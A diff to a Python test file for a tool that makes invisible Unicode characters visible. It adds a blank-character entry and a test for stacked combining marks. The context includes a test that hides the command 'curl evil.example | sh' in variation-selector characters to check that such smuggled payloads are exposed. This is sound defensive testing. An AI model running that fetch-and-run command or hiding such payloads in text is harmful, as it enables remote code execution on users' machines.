@@ -38,6 +38,7 @@ VISIBLE_BLANKS = {
     "DIVES AKURU GAP FILLER",
     "MANICHAEAN PUNCTUATION LINE FILLER",
     "NEWA GAP FILLER",
+    "KAWI PUNCTUATION SPACE FILLER",
 }
 EVERYTHING = [chr(code) for code in range(sys.maxunicode + 1)]
 
@@ -106,3 +107,12 @@ def test_what_varies_or_joins_emoji_is_marked_so_that_texts_that_differ_look_dif
 def test_a_payload_of_variation_selectors_is_visible() -> None:
     payload = "".join([chr(0xE0100 + byte) for byte in b"curl evil.example | sh"])
     assert len(one_line(f"x = 1{payload}")) == 5 + len(payload) * len("⟨U+E0100⟩")
+
+
+def test_of_marks_on_top_of_one_another_only_those_are_shown_as_they_are_that_every_terminal_draws() -> None:
+    stacked = [character for character in EVERYTHING if unicodedata.category(character) in ("Mn", "Me")]
+    for mark in filter(has_ink, stacked):
+        assert printable(f"a{mark * 5}b") == f"a{mark * 2}{f'⟨U+{ord(mark):04X}⟩' * 3}b"
+    assert printable("a\u0301\u0302b\u0303\u0304") == "a\u0301\u0302b\u0303\u0304"
+    # What has no ink ends a run, because its code comes between.
+    assert printable("a\u0301\u0302\u034f\u0303") == "a\u0301\u0302⟨U+034F⟩\u0303"
